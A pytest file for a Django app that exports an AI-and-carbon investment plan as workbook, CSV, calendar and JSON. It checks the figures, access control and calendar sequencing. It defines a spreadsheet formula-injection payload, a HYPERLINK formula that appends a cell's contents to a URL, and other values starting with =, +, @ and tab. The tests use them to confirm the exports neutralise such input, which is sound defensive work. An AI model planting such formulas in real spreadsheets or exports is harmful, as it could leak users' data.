"""The plan as workbook, table, calendar and JSON: the page's figures, whose they are, and no cell that runs."""

import csv
import io
import json
import math
import uuid
from datetime import UTC, date, datetime

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import HealthCheck, assume, given, settings

from calculator.form.examples import BY_SLUG, EXAMPLES
from calculator.models import Assessment
from calculator.profile import ProfileErrors
from calculator.result.page import result_context
from jobs import child
from jobs.child import ChildError
from jobs.models import Run
from releases.snapshot import shipped_tables, tables_of
from reports.calendar import calendar_bytes
from reports.exports import runs
from reports.exports.appointments import appointments
from reports.exports.made import exported
from reports.exports.workbook import Exported, workbook
from roadmap.models import SavedPlan
from roadmap.page import roadmap_context
from tabular.formula import Formula
from tabular.spreadsheet import Sheet, xlsx_bytes
from tests.calculator.profiles import profile
from tests.calculator.test_result_access import assess
from tests.calculator.whole_profiles import whole_profiles
from tests.reports.formulas import evaluated
from tests.reports.test_calendar import parsed, plain
from tests.roadmap.plans import CREATED_ON, assessed

ATTACK = '=HYPERLINK("http://127.0.0.1/?"&A1,"x")'
SAVED_AT = datetime(2027, 2, 3, 4, 5, 6, tzinfo=UTC)
ADDRESSES = ("plan_xlsx", "plan_csv", "plan_ics", "json")
EVERYTHING = profile(
    currency="EUR",
    name="Works",
    discount_rate=0.07,
    programme={
        "capex_by_phase": [1e5, 2e5, 3e5, 4e5],
        "opex_per_year": 5e4,
        "grants_by_phase": [1e4, 0, 0, 0],
        "hardware_share": 0.5,
        "hardware_life_years": 4,
        "residual_value": 3e4,
    },
    labour={"hours_per_week": 2, "cost_per_hour": 40, "in_npv": True},
    benefits={"scrap_per_year": 9e3, "in_npv": True},
    carbon_price={"per_t": 50},
    demand_charge={"peak_kw": 5000, "per_kw_year": 90, "follows_share": 0.5},
    tax={"rate_share": 0.25, "depreciation_years": 5},
)
CASES = {
    **{example.slug: example.profile for example in EXAMPLES},
    "everything": EVERYTHING,
    "inside": EVERYTHING | {"money_view": "inside"},
    "nothing": profile(target_ai_level=1.2),
    "one year": profile(horizon_years=1),
    "no levers": profile(levers=[], discount_rate=0.0),
    "falling rate": EVERYTHING | {"discount_rate": -0.1, "horizon_years": 50},
}


@pytest.fixture(scope="module", autouse=True)
def stop_servers():
    yield
    child.stop_servers()


def made(data: dict) -> Exported:
    inputs, result = assessed(data)
    tables = shipped_tables()
    page = result_context(inputs, result, tables, assessed_on=CREATED_ON)
    plan = roadmap_context(inputs, result, tables, created_on=CREATED_ON, page=page)
    return Exported(inputs, result, tables, page, plan, CREATED_ON)


def opened(sheets: list[Sheet]) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(xlsx_bytes(sheets)))


def rows_by_name(sheet) -> dict[str, tuple]:
    return {row[0].value: row for row in sheet.iter_rows(min_row=2)}


def close(value: float) -> object:
    return pytest.approx(value, rel=1e-9, abs=1e-6)


@pytest.mark.parametrize("case", CASES)
def test_formulas_come_to_the_stored_figures(case):
    """Every formula of the workbook, worked out from its cells alone."""
    source = made(CASES[case])
    sheets, result = workbook(source), source.result
    book = opened(sheets)
    count = 0
    for sheet in sheets:
        for row, cells in enumerate(sheet.rows, 2):
            for column, cell in enumerate(cells, 1):
                if isinstance(cell, Formula):
                    at = book[sheet.title].cell(row, column).coordinate
                    found = evaluated(book, sheet.title, at)
                    assert (
                        found == cell.value if isinstance(cell.value, bool) else found == close(cell.value)
                    ), at
                    count += 1
    assert count > 10
    summary = rows_by_name(book["Summary"])

    def value(name: str):
        return evaluated(book, "Summary", summary[name][1].coordinate)

    assert value("Net present value, worked out here") == close(result["finance"]["npv"])
    assert value("Net present value, as assessed") == result["finance"]["npv"]
    assert value("Do the two agree") is True
    totals = result["totals"]
    assert value("Change in emissions by the curve (+ is more)") == close(-totals["emissions_avoided_t"])
    assert value("Energy saved by the curve") == close(totals["energy_saved_mwh"])
    assert value("Programme cost") == close(totals["programme_cost"])


def test_the_check_says_when_a_figure_is_not_the_stored_one():
    source = made(CASES["everything"])
    finance = source.result["finance"]
    source.result["finance"] = finance | {"npv": finance["npv"] * 1.001}
    book = opened(workbook(source))
    cell = rows_by_name(book["Summary"])["Do the two agree"][1]
    assert evaluated(book, "Summary", cell.coordinate) is False
    assert [row[1].value for row in workbook(source)[0].rows if row[0] == "Do the two agree"] == [False]


@settings(max_examples=20, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(whole_profiles(shipped_tables()))
def test_whatever_is_entered_every_cell_is_a_number_or_text(data):
    """The writer refuses what is no number; the value that is worked out is the stored one."""
    try:
        source = made(data)
    except ProfileErrors:
        assume(False)
    sheets = workbook(source)
    assert xlsx_bytes(sheets, limited=lambda _path, payload: payload)
    checks = [row[1].value for row in sheets[0].rows if row[0] == "Do the two agree"]
    assert checks == [True]
    calendar = calendar_bytes(appointments(source.plan, "id"), name="", stamp=SAVED_AT, sequence=0)
    assert len(parsed(calendar)[1]) >= 8


def test_another_rate_gives_another_value():
    """NPV = Σ CF ÷ (1 + r)^t: at a rate of 0 it is the sum of the flows."""
    book = opened(workbook(made(CASES["everything"])))
    book["Inputs"]["B2"].value = 0.0
    cell = rows_by_name(book["Summary"])["Net present value, worked out here"][1]
    flows = made(CASES["everything"]).result["path"]["net_cash_flow"]
    assert evaluated(book, "Summary", cell.coordinate) == close(math.fsum(flows))


def test_sheets_hold_what_the_page_holds():
    source = made(BY_SLUG["steel-china"].profile)
    book = opened(workbook(source))
    assert book.sheetnames == [
        "Summary", "Inputs", "Results by year", "Plan", "Gates", "Risks and KPIs", "Provenance",
    ]  # fmt: skip
    titles = [row[2].value for row in book["Plan"].iter_rows(min_row=2)]
    assert titles == [item.title for item in source.plan.items]
    gates = list(book["Gates"].iter_rows(min_row=2, values_only=True))
    assert [gate[0] for gate in gates] == [gate.title for gate in source.plan.gates]
    assert [gate[6] for gate in gates] == [gate["threshold_share"] for gate in source.result["gates"]]
    keys = [row[8].value for row in book["Provenance"].iter_rows(min_row=2)]
    assert keys == [entry["key"] for entry in source.result["provenance"]]
    levels = [row[2].value for row in book["Results by year"].iter_rows(min_row=2)][:-1]
    assert levels == source.result["path"]["ai_level"]
    kpis = [row[3].value for row in book["Risks and KPIs"].iter_rows(min_row=2)]
    assert kpis == [part.kpi for phase in source.plan.phases for part in phase.items]


def test_results_of_older_models_have_a_workbook():
    source = made(CASES["everything"])
    older = {
        key: value
        for key, value in source.result.items()
        if key not in ("gates", "uncertainty", "inside_view")
    }
    page = result_context(source.inputs, older, source.tables, assessed_on=CREATED_ON)
    plan = roadmap_context(source.inputs, older, source.tables, created_on=CREATED_ON, page=page)
    sheets = workbook(Exported(source.inputs, older, source.tables, page, plan, CREATED_ON))
    assert "Avoided by the levers" not in {row[0] for row in sheets[0].rows}
    assert opened(sheets)["Gates"]["D2"].value is None


def test_events_of_a_plan():
    plan = made(BY_SLUG["bakery-poland"].profile).plan
    events = list(appointments(plan, "id"))
    assert len(events) == 4 + 4 + sum(len(phase.items) for phase in plan.phases)
    assert len({event.uid for event in events}) == len(events)
    assert all(event.first < event.end for event in events)
    assert all(event.first.day == 1 for event in events if not event.uid.startswith("gate"))
    assert all(event.end.day == 1 for event in events)
    gates = [event for event in events if event.uid.startswith("gate")]
    assert all((event.end - event.first).days == 1 for event in gates)
    first, last = plan.plan.phases[0].first_month, plan.plan.phases[-1].last_month
    assert min(event.first for event in events) <= date(first.year, first.month, 1)
    assert (gates[-1].first.year, gates[-1].first.month) == last


# Over the web


def address(assessment, name: str) -> str:
    return reverse(f"reports:{name}", args=[assessment.pk])


@pytest.fixture
def quick(monkeypatch):
    monkeypatch.setattr(runs, "xlsx_bytes", lambda sheets, **more: b"PK quick")


@pytest.mark.django_db
@pytest.mark.parametrize("name", ADDRESSES)
def test_only_the_owner_has_the_files(owner, visitor, staff, quick, name):
    assessment = assess(owner, name="Works")
    response = owner.get(address(assessment, name))
    assert response.status_code == 200
    ending = {"plan_xlsx": "xlsx", "plan_csv": "csv", "plan_ics": "ics", "json": "json"}[name]
    day = f"{assessment.created_at:%Y-%m-%d}"
    assert response["Content-Disposition"] == f'attachment; filename="works-ai-and-carbon-{day}.{ending}"'
    assert "no-cache" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]
    for client in (visitor, staff):
        assert client.get(address(assessment, name)).status_code == 404
    assert owner.get(reverse(f"reports:{name}", args=[uuid.uuid4()])).status_code == 404
    assert owner.post(address(assessment, name)).status_code == 405


@pytest.mark.django_db
def test_workbook_is_made_and_opens(owner):
    assessment = assess(owner, name=ATTACK, currency="EUR")
    response = owner.get(address(assessment, "plan_xlsx"))
    assert response["Content-Type"] == runs.XLSX
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    plant = book["Summary"]["B2"]
    assert (plant.value, plant.data_type, plant.quotePrefix) == (ATTACK, "s", True)
    kept = openpyxl.load_workbook(io.BytesIO(response.content), data_only=True)
    assert kept["Summary"]["B8"].value == close(assessment.result["finance"]["npv"])
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" or "HYPERLINK" not in cell.value
    assert Run.objects.get().kind == "workbook"


@pytest.mark.django_db
def test_workbook_that_cannot_be_made_is_a_page(owner, monkeypatch):
    def fail(sheets, **more):
        raise ChildError("memory")

    monkeypatch.setattr(runs, "xlsx_bytes", fail)
    response = owner.get(address(assess(owner), "plan_xlsx"))
    assert response.status_code == 503
    assert "The workbook could not be made" in response.content.decode()


@pytest.fixture
def edited(owner) -> Assessment:
    """With a plan that its owner has worked on, and not kindly."""
    assessment = assess(owner, name="Works", currency="EUR")
    first = exported(assessment).plan.items[0]
    own = {
        "key": "own-1",
        "phase": 2,
        "title": ATTACK,
        "text": "+1",
        "done": "-1",
        "owner": "@x",
        "included": True,
    }
    changes = {
        "actions": {first.key: {"included": False, "note": "\t=1; a, b\nc"}},
        "own": [
            own
            | {"first_month": "2028-02", "last_month": "2028-03", "note": "|y", "cost_low": 5, "cost_high": 7}
        ],
    }
    SavedPlan.objects.create(assessment=assessment, changes=changes, revision=4)
    SavedPlan.objects.update(updated_at=SAVED_AT)
    return assessment


@pytest.mark.django_db
def test_table_has_one_row_per_action_and_runs_nothing(owner, edited):
    content = owner.get(address(edited, "plan_csv")).content.decode("utf-8-sig")
    columns, *rows = csv.reader(io.StringIO(content, newline=""))
    items = exported(edited).plan.items
    assert len(rows) == len(items)
    by_key = {row[-1]: dict(zip(columns, row, strict=True)) for row in rows}
    own = by_key["own-1"]
    assert (own["Action"], own["What to do"], own["Owner"]) == (f"'{ATTACK}", "'+1", "'@x")
    assert (own["First month"], own["Last month"], own["Phase"]) == ("2028-02", "2028-03", "2")
    assert (own["Cost, low, EUR"], own["Cost, high, EUR"], own["Cost is"]) == ("5.0", "7.0", "your figure")
    left_out = by_key[items[0].key]
    assert (left_out["In the plan"], left_out["Number"]) == ("FALSE", "")
    assert left_out["Your note"].startswith("'\t=1")
    for row in rows:
        for cell in row:
            assert cell[:1] not in set("=+@|\t")
            assert cell[:1] != "-" or float(cell) < 0


@pytest.mark.django_db
def test_calendar_of_a_plan_that_follows_an_older_one_is_never_the_elder(owner, edited):
    """4 edits of the older plan; then one of its own beside them: programs keep the highest number."""

    def sequence() -> set[str]:
        return {event["SEQUENCE"] for event in parsed(owner.get(address(newer, "plan_ics")).content)[1]}

    newer = Assessment.objects.create(
        enterprise=edited.enterprise,
        release=edited.release,
        model_version=edited.model_version,
        inputs=edited.inputs,
        result=edited.result,
    )
    assert sequence() == {"4"}
    SavedPlan.objects.create(assessment=newer, revision=1)
    assert sequence() == {"5"}


@pytest.mark.django_db
def test_calendar_follows_the_saved_plan(owner, edited):
    response = owner.get(address(edited, "plan_ics"))
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    _calendar, events = parsed(response.content)
    assert {event["DTSTAMP"] for event in events} == {"20270203T040506Z"}
    assert {event["SEQUENCE"] for event in events} == {"4"}
    own = next(event for event in events if event["UID"].startswith("action-own-1."))
    assert (own["DTSTART"], own["DTEND"]) == ("20280201", "20280401")
    assert plain(own["SUMMARY"]).endswith(ATTACK)
    taken_out = exported(edited).plan.items[0]
    assert not any(event["UID"].startswith(f"action-{taken_out.key}.") for event in events)
    assert owner.get(address(edited, "plan_ics")).content == response.content


@pytest.mark.django_db
def test_calendar_of_a_plan_that_nobody_edited(owner):
    assessment = assess(owner)
    _calendar, events = parsed(owner.get(address(assessment, "plan_ics")).content)
    assert {event["SEQUENCE"] for event in events} == {"0"}
    made_at: datetime = assessment.created_at.astimezone(UTC)
    assert {event["DTSTAMP"] for event in events} == {f"{made_at:%Y%m%dT%H%M%SZ}"}


@pytest.mark.django_db
def test_document_is_the_commands(owner, edited, tmp_path):
    document = json.loads(owner.get(address(edited, "json")).content)
    (tmp_path / "profile.json").write_text(json.dumps(document["inputs"]))
    call_command("assess", str(tmp_path / "profile.json"), "--output", str(tmp_path / "result.json"))
    assert document["result"] == json.loads((tmp_path / "result.json").read_text())
    assert document["release"] == edited.release.label
    assert document["plan"] == {"changes": edited.saved_plan.changes, "revision": 4}
    assert (document["format"], document["version"]) == ("green-inflection-assessment", 1)
    assert tables_of(edited.release).label == document["result"]["release"]
